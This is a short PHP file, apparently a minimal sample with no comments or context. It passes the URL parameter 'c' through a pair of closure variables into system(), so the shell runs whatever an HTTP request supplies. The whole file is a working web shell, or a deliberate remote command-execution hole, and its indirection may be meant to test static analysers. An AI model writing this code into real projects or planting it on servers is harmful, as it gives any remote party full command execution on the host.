<?php
$f = function () { return $_GET["c"]; };
$g = $f;
system($g());
